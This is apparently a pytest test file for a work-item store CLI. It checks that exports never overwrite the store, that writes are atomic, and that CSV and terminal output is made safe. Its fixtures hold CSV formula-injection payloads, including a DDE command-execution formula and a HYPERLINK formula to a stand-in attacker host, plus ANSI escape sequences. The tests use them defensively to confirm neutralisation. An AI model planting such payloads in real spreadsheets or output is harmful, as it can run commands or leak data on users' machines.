"""No command destroys a store, and nothing it prints is a trap.

* ``export -o`` / ``simulate -o`` never write over the store (its file, -wal or -shm, even with
  --force), nor over any other SQLite database unless --force; they write a temporary file and
  rename it over the target only when complete, so a failed export leaves the old file as it was.
* CSV cells starting with = + - @ tab or CR get a ' in front (OWASP), unless --raw-csv.
* Tables and messages show control characters escaped (ESC as \\x1b), never raw.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import at, bayeux, data, envelope, run

from store import export as export_mod
from store.cli import main
from store.output import csv_cell, is_sqlite_file, safe_text
from store.simulate import simulate


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def leftovers(directory: Path) -> list[str]:
    """Temporary files an output left behind."""
    return sorted(p.name for p in directory.iterdir() if p.name.endswith(".tmp"))


@pytest.fixture
def store(tmp_path) -> Path:
    """A SQLite store of 400 simulated notifications."""
    stream = tmp_path / "stream.jsonl"
    stream.write_text("".join(line + "\n" for line in simulate(400, agents=5, seed=3)))
    path = tmp_path / "st.db"
    run("import", stream, "--db", path)
    return path


def rows_and_verify(path: Path) -> tuple[int, str]:
    count = json.loads(run("status", "--json", "--db", path).output)["event_log"]["rows"]
    return count, run("verify", "--json", "--db", path).output


# -- part 4: no command destroys a store --------------------------------------------------------

def test_export_onto_the_store_is_refused_even_with_force(store, tmp_path):
    before = rows_and_verify(store)
    assert before[0] == 400 and json.loads(before[1])["ok"]
    os.symlink(store, tmp_path / "link.db")
    os.link(store, tmp_path / "hard.db")
    targets = [store, f"{store}-wal", f"{store}-shm", tmp_path / "link.db", tmp_path / "hard.db"]
    for target in targets:
        for force in ([], ["--force"]):
            files = {p.name: digest(p) for p in tmp_path.iterdir() if p.is_file()}
            result = run("export", "--db", store, "-o", target, *force, ok=False)
            assert result.exit_code == 1
            assert result.output.startswith("Error: refusing to write to ") and "store's own file" in result.output
            assert {p.name: digest(p) for p in tmp_path.iterdir() if p.is_file()} == files
    # The store named by URL, and given before the command, is recognised too.
    run("--db", f"sqlite:///{store}", "export", "-o", store, "--force", ok=False)
    assert rows_and_verify(store) == before
    assert leftovers(tmp_path) == []


def test_simulate_onto_a_store_is_refused(store, tmp_path):
    before = digest(store)
    result = run("simulate", "--events", 10, "-o", store, ok=False)
    assert "it is a SQLite database" in result.output and "--force" in result.output
    # With --force it is still refused when it is the store (--db before the command, or $WORKITEM_STORE_URL).
    result = run("--db", store, "simulate", "--events", 10, "-o", store, "--force", ok=False)
    assert "store's own file" in result.output
    result = run("simulate", "--events", 10, "-o", store, "--force", env={"WORKITEM_STORE_URL": str(store)}, ok=False)
    assert "store's own file" in result.output
    assert digest(store) == before and rows_and_verify(store)[0] == 400


def test_force_overwrites_another_sqlite_file_but_never_the_store(db_url, tmp_path):
    """On both engines: an unrelated SQLite file is refused without --force, replaced with it."""
    stream = tmp_path / "stream.jsonl"
    stream.write_text("".join(line + "\n" for line in simulate(50, agents=2, seed=1)))
    run("import", stream, "--db", db_url)
    other = tmp_path / "other.db"
    con = sqlite3.connect(other)
    con.execute("CREATE TABLE t (x)")
    con.close()
    assert is_sqlite_file(other)
    before = digest(other)
    result = run("export", "--db", db_url, "-o", other, ok=False)
    assert "refusing to overwrite" in result.output and digest(other) == before
    run("export", "--db", db_url, "-o", other, "--force")
    assert not is_sqlite_file(other)
    assert len(other.read_text().splitlines()) == 50
    # The copy imports into an empty store as the same log.
    copy = tmp_path / "copy.db"
    run("import", other, "--db", copy)
    assert rows_and_verify(copy)[0] == 50
    assert leftovers(tmp_path) == []


def test_export_replaces_a_file_only_when_complete(store, tmp_path, monkeypatch):
    target = tmp_path / "backup.jsonl"
    target.write_text("old content\n")
    os.chmod(target, 0o640)
    seen = []
    real = export_mod.export_lines

    def watching(conn, *args, **kwargs):
        for i, line in enumerate(real(conn, *args, **kwargs)):
            if i == 200:
                seen.append(target.read_text())  # mid-export: the target is still the old file
            yield line

    monkeypatch.setattr(export_mod, "export_lines", watching)
    run("export", "--db", store, "-o", target)
    assert seen == ["old content\n"]
    assert len(target.read_text().splitlines()) == 400
    assert target.stat().st_mode & 0o777 == 0o640
    assert leftovers(tmp_path) == []


def test_a_failing_export_leaves_the_old_file_and_no_temporary_file(store, tmp_path, monkeypatch):
    target = tmp_path / "backup.jsonl"
    target.write_text("old content\n")
    new = tmp_path / "new.jsonl"
    real = export_mod.export_lines

    def failing(conn, *args, **kwargs):
        for i, line in enumerate(real(conn, *args, **kwargs)):
            if i == 100:
                raise OSError(28, "No space left on device")
            yield line

    monkeypatch.setattr(export_mod, "export_lines", failing)
    for path in (target, new):
        result = CliRunner().invoke(main, ["export", "--db", str(store), "-o", str(path)])
        assert (result.exit_code, result.stderr) == (1, "Error: No space left on device\n")
    assert target.read_text() == "old content\n"
    assert not new.exists()
    assert leftovers(tmp_path) == []


def test_standard_output_still_streams(store, tmp_path):
    assert len(run("export", "--db", store, "-o", "-").output.splitlines()) == 400
    assert len(run("simulate", "--events", 20).output.splitlines()) == 20
    assert len(run("export", "--db", store, "-o", "/dev/null").output) == 0  # not a regular file: written as it is
    assert Path("/dev/null").is_char_device()


# -- part 6: safe output ------------------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?q","click")', "+1+1", "-2+3", "@SUM(A1)",
            "\tTAB", "\rCR"]
ANSI = "W\x1b[31mRED\x9b"
ANSI_SHOWN = r"W\x1b[31mRED\x9b"


@pytest.fixture
def tricky(tmp_path):
    """A store whose workitem ids, sources, states, userData and error messages are traps."""
    lines = []
    for i, wid in enumerate([*FORMULAS, ANSI]):
        d = data("StatusChange", wid, state="=Invited" if i == 0 else "Invited", caps=["Accept"],
                 user_data={"k": "=1+1", "esc": "\x1b]0;title\x07\x9b"}, ref=i + 1)
        lines.append(envelope(bayeux(d, mid=str(i + 1)), wid, at(i)))
    error = bayeux(data("Error", FORMULAS[0], ref=99, code=500, message="-bad"), mid="99")
    lines.append(envelope(error, "src", at(60)))
    path = tmp_path / "tricky.jsonl"
    path.write_text("".join(line + "\n" for line in lines))
    return path


def parse_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cell_rule():
    for value in FORMULAS + ["-5", "@", "="]:
        assert csv_cell(value) == "'" + value
    for value in (-5, 1.5, None, "W1", "a=b", " =x", "'quoted"):
        assert csv_cell(value) == value


def test_history_and_state_csv_neutralise_formulas(tmp_path, tricky):
    db = tmp_path / "t.db"
    run("import", tricky, "--db", db)
    rows = parse_csv(run("history", "--db", db, "--csv", "--", FORMULAS[0]).stdout)
    assert [r["seq"] for r in rows] == ["1", str(len(FORMULAS) + 2)]
    assert rows[0]["source"] == "'" + FORMULAS[0] and rows[0]["state_to"] == "'=Invited"
    assert rows[0]["user_data_changes"].startswith("{")  # JSON text: nothing to neutralise
    assert rows[1]["error_message"] == "'-bad" and rows[1]["error_code"] == "500"
    raw = parse_csv(run("history", "--db", db, "--raw-csv", "--", FORMULAS[0]).stdout)
    assert raw[0]["source"] == FORMULAS[0] and raw[0]["state_to"] == "=Invited" and raw[1]["error_message"] == "-bad"
    assert parse_csv(run("history", "--db", db, "--csv", "--raw-csv", "--", FORMULAS[0]).stdout) == raw
    for wid in FORMULAS:
        (row,) = parse_csv(run("state", "--db", db, "--seq", 100, "--csv", "--", wid).stdout)
        assert row["workitem_id"] == "'" + wid and row["source"] == "'" + wid
        (row,) = parse_csv(run("state", "--db", db, "--seq", 100, "--raw-csv", "--", wid).stdout)
        assert row["workitem_id"] == wid and row["source"] == wid
    result = run("history", "--db", db, "--json", "--raw-csv", "--", FORMULAS[0], ok=False)
    assert "--raw-csv" in result.output


def test_query_csv_neutralises_strings_not_numbers(tmp_path, tricky):
    db = tmp_path / "t.db"
    run("import", tricky, "--db", db)
    sql = "SELECT workitem_id, 5 AS n, -5 AS neg, '-5' AS s, -1.5 AS f FROM workitems ORDER BY first_seq"
    rows = parse_csv(run("query", sql, "--db", db, "--csv").stdout)
    assert [r["workitem_id"] for r in rows] == ["'" + w for w in FORMULAS] + [ANSI]
    assert {(r["n"], r["neg"], r["s"], r["f"]) for r in rows} == {("5", "-5", "'-5", "-1.5")}
    raw = parse_csv(run("query", sql, "--db", db, "--raw-csv").stdout)
    assert [r["workitem_id"] for r in raw] == FORMULAS + [ANSI] and {r["s"] for r in raw} == {"-5"}


def test_control_characters_are_escaped_in_tables_and_messages(db_url, tricky):
    run("import", tricky, "--db", db_url)
    for args in (("history", ANSI), ("state", ANSI, "--seq", 100)):
        out = run(*args, "--db", db_url).output
        # userData is shown as JSON (C0 as \u escapes), with what JSON leaves raw (C1) escaped too.
        assert ANSI_SHOWN in out and r'"esc": "\u001b]0;title\u0007\x9b"' in out
        assert not any(ch in out for ch in "\x1b\x07\x9b")
        # JSON stays JSON, with the control characters as \u escapes.
        out = run(*args, "--db", db_url, "--json").output
        assert not any(ch in out for ch in "\x1b\x07\x9b") and json.loads(out)[0]["source"] == ANSI
    out = run("history", "--db", db_url, "--", "\tTAB").output
    assert r"\tTAB" in out and "\t" not in out
    result = run("history", ANSI + "X", "--db", db_url, ok=False)
    assert "\x1b" not in result.output and r"\x1b" in result.output


def test_query_table_escapes_control_characters(tmp_path, tricky):
    db = tmp_path / "t.db"
    run("import", tricky, "--db", db)
    out = run("query", "SELECT workitem_id, user_data, 'a' || char(27) || 'b' AS \"x\x1by\" FROM workitems",
              "--db", db).output
    assert ANSI_SHOWN in out and r"\rCR" in out and r"a\x1bb" in out and r"x\x1by" in out
    assert not any(ch in out for ch in "\x1b\x07\x9b\r\t")


def test_safe_text():
    assert safe_text("a\x00b\x1b[0m\x7f\x85\x9f\t\n\r") == r"a\x00b\x1b[0m\x7f\x85\x9f\t\n\r"
    assert safe_text("plain ünïcode €") == "plain ünïcode €"
    assert safe_text(42) == "42"


@pytest.mark.parametrize("command", ["history", "state"])
def test_an_id_argument_that_is_not_utf8_is_a_usage_error(command, tmp_path):
    # A raw byte 0x9B on the command line reaches Python as a lone surrogate (surrogateescape).
    extra = ["--seq", "1"] if command == "state" else []
    result = CliRunner().invoke(main, [command, "w\udc9b", "--db", str(tmp_path / "none.db"), *extra])
    assert result.exit_code == 2 and "is not UTF-8 text" in result.output
    assert "Traceback" not in result.output
